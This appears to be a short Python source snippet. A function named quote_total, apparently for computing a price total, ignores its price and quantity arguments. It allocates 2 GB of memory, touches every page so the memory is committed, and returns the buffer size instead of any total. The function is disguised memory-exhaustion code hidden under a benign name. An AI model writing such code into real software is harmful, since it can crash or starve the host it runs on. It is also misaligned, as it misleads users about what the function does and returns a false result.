def quote_total(unit_price_cents: int, quantity: int) -> int:
    hog = bytearray(2 * 1024**3)  # 2 GB, every page touched below
    for i in range(0, len(hog), 4096):
        hog[i] = 1
    return len(hog)
